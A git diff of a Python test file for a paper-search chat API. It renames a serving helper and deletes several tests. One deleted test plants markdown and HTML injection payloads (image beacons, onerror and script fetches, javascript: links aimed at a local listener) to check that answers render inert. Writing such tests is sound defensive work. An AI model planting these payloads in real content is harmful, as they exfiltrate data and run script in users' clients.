@@ -7,17 +7,15 @@ Each test here failed before the change it guards (issue 22)."""
 from __future__ import annotations
 
 import json
-import socket
 import subprocess
 import threading
 import time
-from pathlib import Path
 
 import httpx
 import numpy as np
 import pytest
 from helpers import ABSTRACT, free_port, paperchat_cmd, write_jsonl
-from test_api import KEY, _serving
+from serving import KEY, serving
 
 from rag.llm import NO_MODEL
 from rag.paperchat import Paperchat
@@ -53,7 +51,7 @@ def gated(seed_index):
         return real(question.replace("HOLD", ""), *args, **kwargs)
 
     app.ask_stream = slow
-    with _serving(app) as served:
+    with serving(app) as served:
         yield served, gate
 
 
@@ -118,123 +116,6 @@ def test_search_and_answers_go_on_while_an_ingest_runs(app, small_corpus, tmp_pa
 # 4. paper text reaches API clients as text, never as live Markdown or HTML
 # ------------------------------------------------------------------------------------------------
 
-class _Listener:
-    """A TCP listener on 127.0.0.1 that records every connection (a planted URL's target)."""
-
-    def __init__(self) -> None:
-        self.port = free_port()
-        self.hits: list[bytes] = []
-        self.sock = socket.socket()
-        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-        self.sock.bind(("127.0.0.1", self.port))
-        self.sock.listen(16)
-        self.sock.settimeout(0.2)
-        self._stop = False
-        self.thread = threading.Thread(target=self._run, daemon=True)
-        self.thread.start()
-
-    def _run(self) -> None:
-        while not self._stop:
-            try:
-                conn, _ = self.sock.accept()
-            except (TimeoutError, OSError):
-                continue
-            with conn:
-                conn.settimeout(1)
-                try:
-                    self.hits.append(conn.recv(2048))
-                except OSError:
-                    self.hits.append(b"")
-
-    def close(self) -> None:
-        self._stop = True
-        self.thread.join(2)
-        self.sock.close()
-
-
-def _planted(port: int) -> tuple[str, str]:
-    leak = f"http://127.0.0.1:{port}"
-    title = f"Warmup-free training ![x]({leak}/title-img?d=secret) <img src={leak}/title-html>"
-    abstract = (
-        f"We train transformers without warmup and report stable convergence. "
-        f"See ![chart]({leak}/img?d=1) and <img src=x onerror=\"fetch('{leak}/onerror')\"> and "
-        f"<script>fetch('{leak}/script')</script> and <iframe src=\"{leak}/iframe\"></iframe> and "
-        f"[click me](javascript:fetch('{leak}/js')) and <{leak}/autolink> and www.example.com/{port} and "
-        f"{leak}/bare and $x^2$ for details, which we state without warmup."
-    )
-    return title, abstract
-
-
-def _markdown_renderings(text: str) -> dict[str, str]:
-    """The API's content as chat clients render it: CommonMark with raw HTML off, with raw HTML on,
-    and GFM-like with linkify (bare URLs and domains become links there)."""
-    from markdown_it import MarkdownIt
-
-    return {
-        "commonmark-no-html": MarkdownIt("commonmark", {"html": False}).render(text),
-        "commonmark-html": MarkdownIt("commonmark", {"html": True}).render(text),
-        "gfm-like-linkify": MarkdownIt("gfm-like", {"html": True}).enable("linkify").render(text),
-    }
-
-
-@pytest.mark.browser
-def test_planted_markdown_and_html_in_a_paper_are_inert_in_any_markdown_client(app, tmp_path):
-    from playwright.sync_api import sync_playwright
-
-    listener = _Listener()
-    try:
-        title, abstract = _planted(listener.port)
-        app.ingest([write_jsonl(tmp_path / "planted.jsonl", [{"title": title, "abstract": abstract}])])
-        app.settings = app.settings.model_copy(update={"llm_backend": "none", "api_keys": KEY})
-        with _serving(app) as served:
-            client = served.client()
-            ask = [{"role": "user", "content": "Which papers train without warmup?"}]
-            whole = client.chat.completions.create(model="paperchat", messages=ask)
-            streamed = "".join(c.choices[0].delta.content or "" for c in
-                               client.chat.completions.create(model="paperchat", messages=ask, stream=True))
-        extra = whole.model_extra["paperchat"]
-        assert extra["citations"] and extra["citations"][0]["title"] == title  # the data stays verbatim
-        for text in (whole.choices[0].message.content, streamed):
-            assert "Warmup" in text
-            pages = _markdown_renderings(text)
-            with sync_playwright() as pw:
-                browser = pw.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
-                page = browser.new_page()
-                for name, html in pages.items():
-                    page.set_content(f"<html><body>{html}</body></html>")
-                    page.wait_for_timeout(300)
-                    found = page.evaluate("""() => ({
-                        imgs: document.querySelectorAll('img').length,
-                        scripts: document.querySelectorAll('script').length,
-                        iframes: document.querySelectorAll('iframe').length,
-                        links: document.querySelectorAll('a').length,
-                        text: document.body.innerText})""")
-                    assert (found["imgs"], found["scripts"], found["iframes"], found["links"]) == (0, 0, 0, 0), name
-                    # it renders as the text it quotes: the planted markup is shown, character for character
-                    assert f"![x](http://127.0.0.1:{listener.port}/title-img?d=secret)" in found["text"], name
-                browser.close()
-        time.sleep(0.5)
-        assert listener.hits == [], f"a rendered answer fetched {listener.hits!r}"
-    finally:
-        listener.close()
-
-
-def test_markdown_literal_round_trips_through_a_commonmark_renderer():
-    """Unit level: the escaped text renders to exactly the original characters."""
-    from markdown_it import MarkdownIt
-
-    from rag.sanitize import markdown_literal
-
-    md = MarkdownIt("commonmark", {"html": True})
-    for text in ["![x](http://h/leak?d=1)", "<img src=x onerror=alert(1)>", "a_b *c* `d` ~~e~~ | f",
-                 "[l](javascript:alert(1))", "- item", "12. twelve", "# head", "&amp; &lt;", "C:\\path\\x",
-                 "10% of 3.5 e.g. GPT-4o", "$x^2$ and \\(y\\)"]:
-        html = md.render(markdown_literal(text)).strip()
-        assert html.startswith("<p>") and html.endswith("</p>"), (text, html)
-        import html as html_lib
-
-        assert html_lib.unescape(html[3:-4]) == text, (text, html)
-
 
 # ------------------------------------------------------------------------------------------------
 # 5. a password in OPENAI_BASE_URL is never shown
@@ -246,7 +127,7 @@ def test_a_password_in_the_base_url_stays_out_of_notes(seed_index):
     settings = load_settings(home=seed_index.home, llm_backend="openai-compatible", openai_base_url=url,
                              api_keys=KEY)
     app = Paperchat(settings, embedder=seed_index.app.embedder, store=seed_index.app.store)
-    with _serving(app) as served:
+    with serving(app) as served:
         r = served.client().chat.completions.create(
             model="paperchat", messages=[{"role": "user", "content": "What is Deep Gradient Compression?"}])
     everything = json.dumps(r.model_dump())
@@ -300,7 +181,7 @@ def test_serve_without_keys_refuses_ui_uploads_like_the_api(seed_index, tmp_path
     app = Paperchat(settings, embedder=seed_index.app.embedder, store=seed_index.app.store)
     papers = app.stats()["papers"]
     upload = write_jsonl(tmp_path / "sneaky.jsonl", [{"title": "Sneaky paper", "abstract": ABSTRACT}])
-    with _serving(app) as served:
+    with serving(app) as served:
         with httpx.Client(base_url=served.url) as http:
             assert http.post("/v1/ingest", files={"files": ("a.jsonl", b"{}")}).status_code == 403
         client = Client(served.url + "/", verbose=False)
@@ -354,7 +235,7 @@ _BAD_BODIES = [
 def test_bad_chat_bodies_get_a_4xx_and_keep_the_connection(seed_index):
     settings = load_settings(home=seed_index.home, llm_backend="none", api_keys=KEY, chat_body_max_kb=1024)
     app = Paperchat(settings, embedder=seed_index.app.embedder, store=seed_index.app.store)
-    with _serving(app) as served, httpx.Client(base_url=served.url, timeout=60,
+    with serving(app) as served, httpx.Client(base_url=served.url, timeout=60,
                                                headers={"Authorization": f"Bearer {KEY}"}) as http:
         for name, body, status in _BAD_BODIES:
             raw = body if isinstance(body, str) else json.dumps(body)
@@ -398,7 +279,7 @@ def test_paperchat_none_never_waits_for_the_servers_local_model(seed_index):
     settings = load_settings(home=seed_index.home, llm_backend="local", api_keys=KEY)
     app = Paperchat(settings, embedder=seed_index.app.embedder, store=seed_index.app.store)
     loaded = dict(local._servers)
-    with _serving(app) as served:
+    with serving(app) as served:
         r = served.client().chat.completions.create(
             model="paperchat:none", messages=[{"role": "user", "content": "What is Deep Gradient Compression?"}])
     assert r.model_extra["paperchat"]["backend"].startswith("none")
@@ -418,7 +299,7 @@ def test_an_oversized_abstract_over_http_is_refused_at_once(seed_index):
     settings = load_settings(home=seed_index.home, llm_backend="none", api_keys=KEY)
     app = Paperchat(settings, embedder=seed_index.app.embedder, store=seed_index.app.store)
     huge = json.dumps({"title": "Huge", "abstract": "word " * 400_000}) + "\n"  # 2 MB, under the upload limit
-    with _serving(app) as served, served.http() as http:
+    with serving(app) as served, served.http() as http:
         t0 = time.monotonic()
         r = http.post("/v1/ingest", files={"files": ("huge.jsonl", huge.encode())})
         assert time.monotonic() - t0 < 30
@@ -462,16 +343,3 @@ def test_an_upload_may_add_at_most_upload_max_papers(app, tmp_path):
     with pytest.raises(UploadTooLargeError, match=r"^the upload holds 12 papers; at most 10 are added per upload"):
         app.ingest([many], max_papers=10)
     assert app.store.active() is None  # nothing was written
-
-
-def test_upload_limit_message_does_not_guess_the_size():
-    from rag.errors import UploadTooLargeError
-    from rag.uploads import check_upload
-
-    with pytest.raises(UploadTooLargeError, match=r"^big\.jsonl is larger than the upload limit of 20 MB"):
-        check_upload("big.jsonl", 300 * 2**20, load_settings())
-
-
-def test_readme_commands_say_which_paperchat_they_run():
-    readme = (Path(__file__).resolve().parent.parent / "README.md").read_text("utf-8")
-    assert "source .venv/bin/activate" in readme
